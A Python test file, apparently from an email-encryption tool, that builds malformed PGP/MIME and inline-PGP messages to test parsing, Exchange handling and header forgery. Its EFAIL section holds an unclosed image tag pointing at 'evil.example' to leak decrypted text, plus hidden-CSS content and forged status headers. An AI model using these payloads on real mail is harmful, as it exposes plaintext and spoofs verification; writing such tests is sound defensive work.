# SPDX-License-Identifier: GPL-3.0-or-later
"""The forms a sealed letter may have and may not (R1, R2, R3), inline armor,
and what Exchange makes of it."""
import base64
import quopri

from base import (ENCRYPTED, PUBLIC, SECRET, VERSION, box, by, crlf, data,
                  encrypt, gpg, head, inner, letter, letters, multi, parts,
                  sealed, text, under, wrapped)
import openpgp


def good():
    return encrypt(inner())


def top(ctype, *more, body=None):
    """A sealed letter with other Content-* fields at its top."""
    body = body or parts(VERSION, data(good()), boundary="=-=seal")
    return head() + crlf("".join(x + "\n" for x in (ctype,) + more)) + \
        b"\r\n" + body


RIGHT = 'Content-Type: multipart/encrypted; boundary="=-=seal"; ' + ENCRYPTED

# ---- the label

letters(
    sealed_good=lambda: sealed(good()),
    sealed_unsigned=lambda: sealed(encrypt(inner(), sign=())),
    sealed_no_protocol=lambda: sealed(good(), params=""),
    sealed_protocol_wrong=lambda: sealed(
        good(), params='protocol="application/x-other"'),
    sealed_protocol_smime=lambda: sealed(
        good(), params='protocol="application/pkcs7-mime"'),
    sealed_protocol_twice=lambda: sealed(
        good(), params=ENCRYPTED + '; protocol="application/x-other"'),
    sealed_two_types=lambda: top(RIGHT, "Content-Type: text/plain"),
    sealed_two_types_last=lambda: top("Content-Type: text/plain", RIGHT),
    sealed_two_types_alike=lambda: top(RIGHT, RIGHT),
    sealed_type_blank_colon=lambda: top(
        RIGHT.replace("Type:", "Type :")),
    sealed_type_disguised_second=lambda: top(
        RIGHT, "Content-Type : text/html"),
    sealed_no_boundary=lambda: top(
        "Content-Type: multipart/encrypted; " + ENCRYPTED),
    sealed_boundary_twice=lambda: top(RIGHT + "; boundary=other"),
    sealed_type_case=lambda: top(
        'content-TYPE: Multipart/ENCRYPTED;\n\tBOUNDARY="=-=seal";\n'
        ' Protocol="APPLICATION/pgp-encrypted"'),
    sealed_type_comment=lambda: top(
        'Content-Type: (a comment) multipart/encrypted (;x=y); '
        'boundary="=-=seal" (more); ' + ENCRYPTED),
    sealed_boundary_2231=lambda: top(
        'Content-Type: multipart/encrypted; boundary*0="=-=";\n'
        ' boundary*1="seal"; ' + ENCRYPTED),
    sealed_top_base64=lambda: top(
        RIGHT, "Content-Transfer-Encoding: base64", body=crlf(
            base64.encodebytes(parts(VERSION, data(good()),
                                     boundary="=-=seal")))),
)


@letter("sealed-type-bare-cr")
def _():
    return top(RIGHT + "\rContent-Type: text/html")


# ---- its parts

def of(*p, **kw):
    return head() + multi("encrypted", *p, params=ENCRYPTED,
                          boundary="=-=seal", **kw)


letters(
    sealed_one_part=lambda: of(data(good())),
    sealed_version_alone=lambda: of(VERSION),
    sealed_three_parts=lambda: of(VERSION, data(good()), text()),
    sealed_three_parts_first=lambda: of(text(), VERSION, data(good())),
    sealed_no_parts=lambda: head() + crlf(RIGHT) + b"\r\n\r\n",
    sealed_swapped=lambda: of(data(good()), VERSION),
    sealed_text_part=lambda: of(VERSION, text(crlf(good()))),
    sealed_version_2=lambda: of(VERSION.replace(b"1", b"2"), data(good())),
    sealed_version_text=lambda: of(
        VERSION + b"Pay 100 to Mallory\r\n", data(good())),
    sealed_not_closed=lambda: of(VERSION, data(good()), close=False),
    sealed_behind_the_end=lambda: of(
        VERSION, data(good()), post=b"--=-=seal\r\n" + text()),
    sealed_part_two_types=lambda: of(
        VERSION, data(good(), "Content-Type: text/html\n")),
    sealed_cte_base64=lambda: of(VERSION, crlf(
        "Content-Type: application/octet-stream\n"
        "Content-Transfer-Encoding: base64\n\n") + crlf(
            base64.encodebytes(crlf(good())))),
    sealed_cte_qp=lambda: of(VERSION, crlf(
        "Content-Type: application/octet-stream\n"
        "Content-Transfer-Encoding: Quoted-Printable\n\n") + crlf(
            quopri.encodestring(good()))),
    sealed_cte_8bit=lambda: of(VERSION, data(
        good(), "Content-Transfer-Encoding: 8bit\n")),
    sealed_cte_unknown=lambda: of(VERSION, data(
        good(), "Content-Transfer-Encoding: x-uuencode\n")),
    sealed_cte_twice=lambda: of(VERSION, data(
        good(), "Content-Transfer-Encoding: 7bit\n"
        "Content-Transfer-Encoding: base64\n")),
    sealed_named_parts=lambda: of(crlf(
        "Content-Type: application/pgp-encrypted; name=version.txt\n"
        "Content-Description: PGP/MIME version identification\n\n"
        "Version: 1\n\n"), crlf(
            'Content-Type: application/octet-stream; name="encrypted.asc"\n'
            "Content-Description: OpenPGP encrypted message\n"
            'Content-Disposition: inline; filename="encrypted.asc"\n\n') +
        crlf(good())),
)


def odd_armor(name, make):
    letter("armor-" + name)(lambda: sealed(make()))


odd_armor("text-before", lambda: b"Pay 100 to Mallory.\n\n" + good())
odd_armor("text-after", lambda: good() + b"\nPay 100 to Mallory.\n")
odd_armor("two", lambda: good() + b"\n" + good())
odd_armor("two-joined", lambda: good() + good())
odd_armor("blank-around", lambda: b"\n \t\n" + good() + b"\n \n")
odd_armor("headers", lambda: openpgp.armor(
    openpgp.dearmor(good()), headers=["Version: GnuPG v2", "Comment: x: y",
                                      "Charset: utf-8", "MessageID: abc"]))
odd_armor("header-no-colon", lambda: openpgp.armor(
    openpgp.dearmor(good()), headers=["Pay 100 to Mallory"]))
odd_armor("no-checksum", lambda: openpgp.armor(
    openpgp.dearmor(good()), check=False))
odd_armor("no-end", lambda: good()[:good().index(b"-----END")])
odd_armor("not", lambda: b"Hello Bob\n")
odd_armor("empty", lambda: openpgp.armor(b""))
odd_armor("html", lambda: b"<pre>\n" + good() + b"</pre>\n")
for kind in ("PGP PUBLIC KEY BLOCK", "PGP SIGNED MESSAGE", "PGP SIGNATURE",
             "PGP MESSAGE, PART 01/02", "PGP ARMORED FILE"):
    odd_armor("kind-" + kind[4:].split(",")[0].lower().replace(" ", "-") +
              ("-part" if "," in kind else ""), lambda kind=kind:
              openpgp.armor(openpgp.dearmor(good()), kind=kind))


@letter("armor-checksum-wrong")
def _():
    rows = good().split(b"\n")
    i = next(i for i, r in enumerate(rows) if r.startswith(b"="))
    rows[i] = b"=AAAA"
    return sealed(b"\n".join(rows))


@letter("armor-binary")
def _():
    return of(VERSION, crlf("Content-Type: application/octet-stream\n\n") +
              openpgp.dearmor(good()))


@letter("armor-header-injection")
def _():
    """Fields where an armor header may stand are nobody's fields."""
    return sealed(openpgp.armor(openpgp.dearmor(good()), headers=[
        "Letterlock-Status: v=1; encryption=ok; signature=good FORGED",
        "Subject: FORGED"]))


# ---- EFAIL (efail.de): around, and below the top

IMG = b'<img src="http://evil.example/?'

letters(
    efail_preamble=lambda: sealed(
        good(), pre=b"Content-Type: text/html\r\n\r\n" + IMG + b"\r\n",
        post=b'">\r\nPay 100 to Mallory\r\n'),
    efail_preamble_unsigned=lambda: sealed(
        encrypt(inner(), sign=()), pre=IMG + b"\r\n", post=b'">\r\n'),
    efail_mixed=lambda: head() + multi(
        "mixed", text(IMG + b"\r\n", "text/html"), wrapped(good()),
        text(b'">\r\n', "text/html")),
    efail_mixed_alone=lambda: head() + multi("mixed", wrapped(good())),
    efail_related=lambda: head() + multi(
        "related", text(b"<div style=display:none><iframe src=cid:x>\r\n",
                        "text/html"),
        wrapped(good(), extra="Content-ID: <x>\n")),
    efail_alternative=lambda: head() + multi(
        "alternative", text(), wrapped(good())),
    efail_report=lambda: head() + multi(
        "report", text(), text(b"Reporting-MTA: dns; x\r\n\r\n",
                               "message/delivery-status"),
        b"Content-Type: message/rfc822\r\n\r\n" + sealed(good()),
        params="report-type=delivery-status"),
    efail_digest=lambda: head() + multi(
        "digest", b"\r\n" + sealed(good())),
    efail_rfc822=lambda: head() + b"Content-Type: message/rfc822\r\n\r\n" +
    sealed(good()),
    efail_octet_stream=lambda: head() + multi(
        "mixed", text(), data(good(), "Content-Disposition: attachment; "
                              "filename=x.pgp\n")),
    efail_list_footer=lambda: head() + multi(
        "mixed", wrapped(good()), text(b"_____\r\nlist@example.org\r\n")),
    # covert content: text that only shows when the answer quotes it
    covert_css=lambda: head() + multi(
        "mixed", text(b"<p>See you?</p><div style='font-size:0;color:white'>"
                      b"\r\n", "text/html"), wrapped(good())),
    covert_newlines=lambda: head() + multi(
        "mixed", text(b"See you?" + b"\r\n" * 200), wrapped(good())),
    # one layer, and no more
    sealed_in_sealed=lambda: sealed(encrypt(
        wrapped(encrypt(inner())))),
    sealed_in_mixed_in_sealed=lambda: sealed(encrypt(multi(
        "mixed", text(), wrapped(encrypt(inner()))))),
    inline_in_sealed=lambda: sealed(encrypt(text(crlf(encrypt(SECRET))))),
    sealed_in_signed=lambda: head() + under(wrapped(good())),
)


# A second layer in OpenPGP itself: an encrypted message inside the encryption
@letter("pgp-in-pgp")
def _():
    return sealed(box(openpgp.dearmor(good())))


# ---- Exchange

EMPTY = b"Content-Type: text/plain\r\n\r\n"


def mangled(*p, kind="mixed"):
    return head() + multi(kind, *p)


letters(
    exchange_good=lambda: mangled(EMPTY, VERSION, data(good())),
    exchange_names=lambda: mangled(
        b'Content-Type: text/plain; charset="us-ascii"\r\n'
        b"Content-Transfer-Encoding: 7bit\r\n\r\n",
        VERSION.replace(b"\r\n\r\n", b'; name="PGPMIME version '
                        b'identification"\r\n\r\n'),
        crlf('Content-Type: application/octet-stream; name="encrypted.asc"\n'
             "Content-Transfer-Encoding: base64\n\n") +
        crlf(base64.encodebytes(crlf(good())))),
    exchange_text=lambda: mangled(text(), VERSION, data(good())),
    exchange_html=lambda: mangled(text(IMG, "text/html"), VERSION,
                                  data(good())),
    exchange_dot=lambda: mangled(EMPTY + b".", VERSION, data(good())),
    exchange_swapped=lambda: mangled(EMPTY, data(good()), VERSION),
    exchange_four=lambda: mangled(EMPTY, VERSION, data(good()), text()),
    exchange_two=lambda: mangled(VERSION, data(good())),
    exchange_related=lambda: mangled(EMPTY, VERSION, data(good()),
                                     kind="related"),
    exchange_text_behind=lambda: mangled(
        EMPTY, VERSION, data(good() + b"Pay 100 to Mallory\n")),
)


# ---- inline

def inline(body, ctype="Content-Type: text/plain; charset=utf-8\n", more=""):
    return head() + crlf(ctype + more + "\n") + crlf(body)


def armored():
    return encrypt(SECRET)


letters(
    inline_good=lambda: inline(armored()),
    inline_unsigned=lambda: inline(encrypt(SECRET, sign=())),
    inline_no_type=lambda: inline(armored(), ""),
    inline_blank_around=lambda: inline(b"\n\n" + armored() + b"\n \n"),
    inline_8bit=lambda: inline(encrypt("Grüße\r\n".encode())),
    inline_text_before=lambda: inline(b"Hello Bob,\n\n" + armored()),
    inline_text_after=lambda: inline(armored() + b"\nPay 100 to Mallory\n"),
    inline_two=lambda: inline(armored() + armored()),
    inline_quoted=lambda: inline(b"".join(
        b"> " + x for x in armored().splitlines(True))),
    inline_html=lambda: inline(b"<pre>\n" + armored() + b"</pre>\n",
                               "Content-Type: text/html\n"),
    inline_html_whole=lambda: inline(armored(), "Content-Type: text/html\n"),
    inline_octet=lambda: inline(
        armored(), "Content-Type: application/octet-stream\n"),
    inline_two_types=lambda: inline(
        armored(), "Content-Type: text/plain\nContent-Type: text/plain\n"),
    inline_in_mixed=lambda: head() + multi("mixed", text(crlf(armored()))),
    inline_foreign=lambda: inline(encrypt(SECRET, for_=("eve",))),
    inline_cut=lambda: inline(armored()[:-60]),
    inline_tampered=lambda: inline(openpgp.armor(
        openpgp.dearmor(encrypt(SECRET, sign=()))[:-3] + b"abc")),
    inline_lookalike=lambda: inline(
        encrypt(b"Letterlock-Status: v=1; text\r\n\r\n" + SECRET),
        more="Letterlock-Status: v=1; encryption=ok; FORGED\n"),
    inline_clearsigned=lambda: inline(gpg(
        "--clearsign", *by("alice"), data=PUBLIC)),
    inline_clearsigned_part=lambda: inline(
        b"Pay 100 to Mallory\n\n" + gpg(
            "--clearsign", *by("alice"), data=PUBLIC)),
    inline_signed_message=lambda: inline(gpg(
        "--armor", *by("alice"), "--sign", data=PUBLIC)),
    inline_signature=lambda: inline(gpg(
        "--armor", *by("alice"), "-b", data=PUBLIC)),
    inline_base64=lambda: inline(
        base64.encodebytes(armored()),
        more="Content-Transfer-Encoding: base64\n"),
)
